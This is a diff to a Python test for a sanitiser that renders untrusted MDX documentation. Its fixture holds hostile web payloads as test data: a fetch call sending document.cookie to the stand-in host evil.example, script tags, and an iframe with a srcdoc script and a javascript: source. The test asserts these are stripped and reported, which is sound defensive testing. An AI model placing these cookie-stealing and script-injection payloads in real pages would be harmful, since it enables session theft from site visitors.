@@ -210,6 +210,10 @@ Text {fetch("https://evil.example/" + document.cookie)} and `{kept in code}`.
 
 <script>steal()</script>
 
+<iframe src="https://www.youtube.com/embed/x" title="A video" allowfullscreen></iframe>
+
+<iframe srcdoc="<script>steal()</script>" src="javascript:steal()"></iframe>
+
 See <Link href="other.md">the other page</Link>, [a script](tool.js) and [a style](look.css).
 
 ```js
@@ -251,7 +255,12 @@ def test_untrusted_mdx_is_inert_and_reported(tmp_path: Path, cache_dir: Path) ->
     assert 'title: "Hostile"' in page or "title: Hostile" in page
     lines = HOSTILE.splitlines()
     assert '.png"\n  alt="a tag over several lines"\n/>\n\n' in page  # a tag over lines
-    for needle in ("import {", "export const", "Text {", "onClick", "<script>", "icon:", "<img"):
+    # an iframe stays, as on the upstream's site, without a document of its own
+    assert ('<iframe src="https://www.youtube.com/embed/x" title="A video" allowfullscreen>'
+            "</iframe>") in page
+    assert "srcdoc" not in page and '<iframe src="#"></iframe>' in page
+    for needle in ("import {", "export const", "Text {", "onClick", "<script>", "icon:", "<img",
+                   "srcdoc"):
         line = next(i for i, text in enumerate(lines, 1) if needle in text)
         assert f"docs/hostile.md:{line}:" in done.stderr, (needle, done.stderr)
     assert "javascript: links are not allowed" in done.stderr
